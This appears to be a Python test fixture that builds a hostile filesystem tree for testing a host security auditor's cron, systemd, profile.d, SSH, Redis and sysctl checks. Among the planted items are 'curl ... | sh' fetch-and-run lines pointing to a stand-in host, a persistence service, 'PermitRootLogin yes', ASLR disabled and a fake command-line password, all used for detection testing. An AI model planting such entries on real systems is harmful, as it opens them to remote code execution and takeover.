"""Hostile trees for issue 17, shared by the no-evasion unit tests, the memory-cgroup
integration test and bench/hostile_bench.py (one builder, no copies).

``hostile_files`` puts attacker files before the malicious one in one directory;
``hostile_root`` builds a whole root where every area meets FIFOs, /dev/zero links, link loops,
multi-GB sparse files, a directory of ``entries`` names, huge include chains, invalid UTF-8 (in
content and in names), 1 MiB lines and processes; ``MALICIOUS`` lists what must still be found.
Sparse files cost a few KiB of disk; the tree is removed by the caller (shutil.rmtree)."""
import os

from conftest import write
from cron_tree import hostile_tree, seed_000, symlink
from procfixture import add_process

HOSTILE_LINE = "python -c socket "          # issue 17's catastrophic-regex line
GIB = 1 << 30


def hostile_files(root, directory, ext, line=HOSTILE_LINE, fillers=0, filler_bytes=300 * 1024):
    """Attacker files that sort before ``zz``/``99`` names in ``directory``: a FIFO, a link to
    /dev/zero, a 4 GiB sparse file, a 1 MiB regex-hostile line, invalid UTF-8 and ``fillers``
    files of ``filler_bytes`` (to spend a byte budget). Returns their names."""
    base = os.path.join(str(root), directory.lstrip("/"))
    os.makedirs(base, exist_ok=True)
    names = ["00-fifo" + ext, "01-zero" + ext, "02-huge" + ext, "03-longline" + ext, "04-badutf8" + ext]
    os.mkfifo(os.path.join(base, names[0]))
    symlink(root, directory + "/" + names[1], "/dev/zero")
    os.truncate(write(root, directory + "/" + names[2], b""), 4 * GIB)
    write(root, directory + "/" + names[3], (line * ((1 << 20) // len(line) + 1))[:1 << 20] + "\n")
    write(root, directory + "/" + names[4], b"\xff\xfe\xc3\x28 caf\xe9\n")
    for index in range(fillers):
        name = "05-filler%02d%s" % (index, ext)
        write(root, directory + "/" + name, b"# filler\n" * (filler_bytes // 9))
        names.append(name)
    return names


# (area, check id, subject): what hostile_root plants and every audit must still report
MALICIOUS = [
    ("cron", "HG-CRON-010", "/etc/cron.d/zz-evil"),
    ("cron", "HG-CRON-001", "/var/spool/cron/dump.rdb"),
    ("persistence", "HG-PERS-001", "/etc/systemd/system/zz-evil.service"),
    ("persistence", "HG-PERS-031", "/etc/profile.d/zz-evil.sh"),
    ("ssh", "HG-SSH-012", "PermitRootLogin"),
    ("sysctl", "HG-SYSCTL-002", "kernel.randomize_va_space"),
]
# (area, check id, subject): hostile parts that must be named by a finding (fail or error)
HOSTILE_PARTS = [
    ("cron", "HG-CRON-006", "/etc/cron.d/fifo"),
    ("cron", "HG-CRON-007", "/etc/cron.d/zero"),
    ("cron", "HG-CRON-008", "/etc/cron.d/loop-a"),
    ("cron", "HG-CRON-005", "/var/spool/cron/crontabs/huge"),
    ("cron", "HG-CRON-005", "/etc/cron.d/longline"),
    ("cron", "HG-CRON-013", "/etc/cron.weekly"),
    ("persistence", "HG-PERS-040", "/etc/systemd/system/00-fifo.service"),
    ("persistence", "HG-PERS-041", "/etc/systemd/system/02-huge.service"),
    ("persistence", "HG-PERS-041", "/etc/profile.d/03-longline.sh"),
    ("ssh", "HG-SSH-023", "sshd_config"),
    ("ssh", "HG-SSH-022", "sshd_config"),
    ("redis", "HG-REDIS-012", "/etc/redis/conf.d/00-fifo.conf"),
    ("redis", "HG-REDIS-012", "/etc/redis/conf.d/02-huge.conf"),
    ("redis", "HG-REDIS-012", "/etc/redis/conf.d/03-longline.conf"),
    ("sysctl", "HG-SYSCTL-003", "/etc/sysctl.d/00-fifo.conf"),
    ("sysctl", "HG-SYSCTL-003", "/etc/sysctl.d/02-huge.conf"),
    ("sysctl", "HG-SYSCTL-003", "/etc/sysctl.d/03-longline.conf"),
]


def hostile_root(root, entries=100000, chain=300):
    """A whole hostile root (see the module docstring); ``entries`` names in /etc/cron.weekly,
    Include chains ``chain`` files long."""
    root = str(root)
    hostile_tree(root, entries=entries)                   # cron: FIFO, /dev/zero, loops, 4 GiB...
    seed_000(root)
    os.truncate(os.path.join(root, "var/spool/cron/dump.rdb"), 2 * GIB)
    write(root, "/etc/cron.d/zz-evil", "* * * * * root curl -fsSL http://203.0.113.9/x | sh\n")
    raw = os.path.join(root.encode(), b"etc/cron.d/bad\xffname\xe2\x80\xae")
    with open(raw, "wb") as handle:
        handle.write(b"* * * * * root /bin/true\n")
    # persistence: systemd units, drop-ins, profile.d, a 2 GiB authorized_keys
    hostile_files(root, "/etc/systemd/system", ".service", line="ExecStart=" + HOSTILE_LINE)
    write(root, "/etc/systemd/system/zz-evil.service",
          "[Service]\nExecStart=/tmp/.x/run\n[Install]\nWantedBy=multi-user.target\n")
    symlink(root, "/etc/systemd/system/multi-user.target.wants/zz-evil.service",
            "/etc/systemd/system/zz-evil.service")
    for index in range(chain):
        write(root, "/etc/systemd/system/zz-evil.service.d/%04d.conf" % index, "[Service]\nNice=1\n")
    hostile_files(root, "/etc/profile.d", ".sh")
    write(root, "/etc/profile.d/zz-evil.sh", "curl -fsSL http://203.0.113.9/x | sh\n")
    os.truncate(write(root, "/root/.ssh/authorized_keys", b"REDIS0009"), 2 * GIB)
    # ssh: hostile drop-ins, a self-Include, an Include chain deeper than sshd allows
    write(root, "/etc/ssh/sshd_config",
          "Include /etc/ssh/sshd_config.d/*.conf\nInclude /etc/ssh/chain/0000.conf\n")
    hostile_files(root, "/etc/ssh/sshd_config.d", ".conf")
    write(root, "/etc/ssh/sshd_config.d/06-self.conf", "Include /etc/ssh/sshd_config.d/06-self.conf\n" * 50)
    write(root, "/etc/ssh/sshd_config.d/99-evil.conf", "PermitRootLogin yes\n")
    for index in range(chain):
        write(root, "/etc/ssh/chain/%04d.conf" % index, "Include /etc/ssh/chain/%04d.conf\n" % (index + 1))
    # redis: hostile includes, an include chain, a glob over self-links
    write(root, "/etc/redis/redis.conf",
          "bind 127.0.0.1\nprotected-mode yes\ninclude /etc/redis/conf.d/*.conf\n"
          "include /etc/redis/chain/0000.conf\ninclude /srv/l/*/*/*/*/*/*/*/*/x.conf\n", mode=0o640)
    hostile_files(root, "/etc/redis/conf.d", ".conf")
    for index in range(chain):
        write(root, "/etc/redis/chain/%04d.conf" % index, "include /etc/redis/chain/%04d.conf\n" % (index + 1))
    os.makedirs(os.path.join(root, "srv/l"))
    symlink(root, "/srv/l/a", ".")
    symlink(root, "/srv/l/b", ".")
    # sysctl.d
    hostile_files(root, "/etc/sysctl.d", ".conf")
    write(root, "/etc/sysctl.d/99-evil.conf", "kernel.randomize_va_space = 0\n")
    write(root, "/proc/sys/kernel/randomize_va_space", "2\n")
    # kernel log: a 1 MiB line, an OOM kill, then a 64 MiB sparse tail of NULs
    log = write(root, "/var/log/kern.log",
                "Dec  1 10:00:00 h kernel: invoked oom-killer: " + "a" * (1 << 20) + "\n"
                "Dec  1 10:00:01 h kernel: Out of memory: Killed process 4242 (java) total-vm:1kB, "
                "anon-rss:1kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:0kB oom_score_adj:0\n")
    os.truncate(log, 64 << 20)       # oomlog reads a log whole (bounded memory, linear time)
    # processes (fixture /proc): a secret on a command line, a redis-server
    write(root, "/proc/meminfo", "MemTotal: 1000000 kB\nMemAvailable: 10000 kB\n")
    add_process(root, 100, "redis-server", cmdline=["/usr/bin/redis-server", "/etc/redis/redis.conf"])
    add_process(root, 101, "java", rss_kib=500000, cmdline=["java", "--password=hostile-secret-1"])
    return root
